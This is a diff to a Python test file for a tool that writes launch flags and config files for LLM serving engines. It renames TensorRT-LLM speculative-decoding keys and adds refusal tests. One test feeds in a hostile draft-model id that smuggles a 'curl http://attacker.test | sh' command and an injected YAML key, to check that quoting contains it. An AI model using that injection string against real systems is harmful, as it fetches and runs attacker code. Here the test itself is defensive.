@@ -99,14 +99,19 @@ def test_sglang_speculative_algorithm(method: str, expected: str) -> None:
     assert _flags("sglang", method) == [expected + chain]
 
 
+# TensorRT-LLM 1.0's llm_args.py (the LLM API trtllm-serve's file is read into): DecodingBaseConfig.from_dict maps
+# "MTP", "Medusa", "Eagle", "Lookahead", "NGram", "DraftTarget", "UserProvided" and "AUTO" (no "Eagle3", no
+# "Draft_Target": "Invalid decoding type"), its models forbid other keys (StrictBaseModel, extra="forbid") and name
+# the drafter speculative_model_dir; speculative_model is read as its alias only from NVIDIA/TensorRT-LLM PR #10099
+# (2025-12). The PyTorch flow's "Eagle" is EAGLE-3 (EagleDecodingConfig.spec_dec_mode: EAGLE3 or EAGLE3_ONE_MODEL).
 @pytest.mark.parametrize(
     ("method", "expected"),
     [
         (
             "draft",
-            {"decoding_type": "Draft_Target", "max_draft_len": 4, "speculative_model": "meta-llama/Llama-3.2-1B"},
+            {"decoding_type": "DraftTarget", "max_draft_len": 4, "speculative_model_dir": "meta-llama/Llama-3.2-1B"},
         ),
-        ("eagle3", {"decoding_type": "Eagle3", "max_draft_len": 4, "speculative_model": HEAD}),
+        ("eagle3", {"decoding_type": "Eagle", "max_draft_len": 4, "speculative_model_dir": HEAD}),
         ("mtp", {"decoding_type": "MTP", "num_nextn_predict_layers": 4}),
     ],
 )
@@ -127,7 +132,7 @@ def test_a_hostile_draft_id_stays_one_value(engine: str) -> None:
     model_id = "evil'}; curl http://attacker.test | sh #\n  decoding_type: MTP"
     (flag,) = _flags(engine, "draft", draft_id=model_id)
     if engine == "trtllm":
-        assert _yaml(flag)["speculative_model"] == model_id
+        assert _yaml(flag)["speculative_model_dir"] == model_id
         return
     argv = shlex.split(flag)
     if engine == "vllm":
@@ -164,6 +169,29 @@ def test_vllm_kv_offloading_flags_come_with_0_11_1() -> None:
     assert refused == "vLLM 0.11.0 has no --kv-offloading-size (the flag came with 0.11.1)"
 
 
+@pytest.mark.parametrize(
+    ("method", "why"),
+    [
+        ("eagle", "its PyTorch flow's Eagle is EAGLE-3"),  # EagleDecodingConfig.spec_dec_mode: EAGLE3(_ONE_MODEL)
+        ("medusa", "MedusaDecodingConfig runs on the TensorRT backend only"),  # supports_backend: not "pytorch"
+    ],
+)
+def test_tensorrt_llm_1_0_refuses_what_its_pytorch_flow_does_not_run(method: str, why: str) -> None:
+    """Before, both were written into the file as if trtllm-serve ran them ("Eagle" for an EAGLE-1 head, "Medusa"
+    on the PyTorch backend, which refuses it)."""
+    options = DeploymentOptions(speculative=SpeculativeOptions(method=method))  # type: ignore[arg-type]
+    refused = get_engine("trtllm").refusal(
+        PlanRequest(
+            model=LLAMA,
+            gpu=H100,
+            gpu_memory_bytes=H100.memory_bytes,
+            overhead=overhead_profile("trtllm"),
+            deployment=options,
+        )  # fmt: skip
+    )
+    assert refused is not None and refused.startswith("TensorRT-LLM 1.0.0") and why in refused
+
+
 def test_tensorrt_llm_writes_the_windows_and_the_speculation_in_one_file() -> None:
     """trtllm-serve reads one ``--extra_llm_api_options`` file: with the model's windows set
     (``--max-attention-window``) and a draft model, both go in it and the launch command passes no file of its own
@@ -188,9 +216,9 @@ def test_tensorrt_llm_writes_the_windows_and_the_speculation_in_one_file() -> No
     assert lines[1].count(", ") == gemma.num_hidden_layers - 1 and "8192" in lines[1]  # 1 global per 6 layers
     assert lines[2:] == [
         "speculative_config:",
-        "  decoding_type: Draft_Target",
+        "  decoding_type: DraftTarget",
         "  max_draft_len: 3",
-        '  speculative_model: "meta-llama/Llama-3.2-1B"',
+        '  speculative_model_dir: "meta-llama/Llama-3.2-1B"',
     ]
     assert "--extra_llm_api_options" not in engine.launch_command(request, result, request.overhead)  # type: ignore[arg-type]
     alone = request.model_copy(update={"deployment": None})
